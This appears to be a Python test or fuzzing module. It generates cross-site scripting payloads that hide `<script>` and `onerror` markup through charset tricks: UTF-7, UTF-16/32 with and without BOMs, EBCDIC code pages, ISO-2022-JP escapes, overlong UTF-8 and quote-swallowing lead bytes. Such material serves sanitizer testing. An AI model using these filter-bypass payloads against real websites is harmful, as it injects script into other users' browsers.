"""Bytes that are markup in one charset and words in another, with and without a label."""

from __future__ import annotations

import codecs
from collections.abc import Callable, Iterator
from functools import partial

_RUN = "<script>@run@</script>"
_IMG = "<img src=x onerror=@run@>"
_ESCAPES = (b"\x1b(B", b"\x1b(J", b"\x1b$@", b"\x1b$B", b"\x1b(I")


def payloads() -> Iterator[tuple[str, Callable[[str], bytes]]]:
    for markup in (_RUN, _IMG):
        for charset in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-7"):
            yield markup, partial(_encoded, charset, b"")
        yield markup, partial(_encoded, "utf-16-le", codecs.BOM_UTF16_LE)
        yield markup, partial(_encoded, "utf-16-be", codecs.BOM_UTF16_BE)
        yield markup, partial(_encoded, "utf-32-le", codecs.BOM_UTF32_LE)
        yield markup, partial(_encoded, "utf-8", codecs.BOM_UTF8)
        yield markup, partial(_encoded, "utf-8", codecs.BOM_UTF16_LE)
        for label in ("utf-7", "utf-16", "utf-16le", "x-user-defined", "iso-2022-jp", "hz-gb-2312"):
            yield markup, partial(_labelled, label, "utf-8")
        for charset in ("cp037", "cp1026", "cp875"):
            yield markup, partial(_labelled, charset, charset)
        for charset in ("shift_jis", "euc_jp", "gb18030", "big5", "euc_kr", "windows-1252"):
            # A lead byte that swallows the quote after it, and with it the end of the attribute.
            yield markup, partial(_swallowed, charset)
        for number in range(len(_ESCAPES)):
            yield markup, partial(_escaped, number)
        for number in range(3):
            yield markup, partial(_overlong, number)
    yield "+ADw-script+AD4-@run@+ADw-/script+AD4-", partial(_labelled, "utf-7", "ascii")
    yield "+/v8-+ADw-img src=x onerror=@run@+AD4-", partial(_encoded, "ascii", b"")
    yield "~{<script>@run@</script>~}", partial(_labelled, "hz-gb-2312", "ascii")
    yield "\uff1cscript\uff1e@run@\uff1c/script\uff1e", partial(_labelled, "utf-8", "utf-8")
    yield (
        "\u2039script\u203a@run@\u2039/script\u203a",
        partial(_labelled, "us-ascii", "windows-1252"),
    )
    yield "\xbcscript\xbe@run@\xbc/script\xbe", partial(_labelled, "us-ascii", "latin-1")


def _encoded(charset: str, mark: bytes, page: str) -> bytes:
    return mark + page.encode(charset, "replace")


def _labelled(label: str, charset: str, page: str) -> bytes:
    return f'<meta charset="{label}">{page}'.encode(charset, "replace")


def _swallowed(charset: str, page: str) -> bytes:
    label = f'<meta charset="{charset}">'.encode()
    quoted = page.replace("<img", '<img alt="\x80').replace("<script>", '<p title="\x80"><script>')
    return label + quoted.encode("latin-1", "replace").replace(b"\x80", b"\x81")


def _escaped(number: int, page: str) -> bytes:
    """The escapes of ISO-2022-JP, within tags: what a decoder takes away, it must take away first."""
    escape = _ESCAPES[number]
    raw = page.encode("ascii", "replace").replace(b"<script", b"<scr" + escape + b"ipt")
    raw = raw.replace(b"onerror", b"on" + escape + b"error")
    return (
        b'<meta charset="iso-2022-jp">'
        + raw
        + b'<img alt="'
        + escape
        + b'"><b title="'
        + _ESCAPES[0]
    )


def _overlong(number: int, page: str) -> bytes:
    """`<` in more bytes than UTF-8 allows."""
    written = (b"\xc0\xbc", b"\xe0\x80\xbc", b"\xf0\x80\x80\xbc")[number]
    raw = page.encode("utf-8", "replace")
    return raw.replace(b"<script", written + b"script").replace(b"<img", written + b"img")
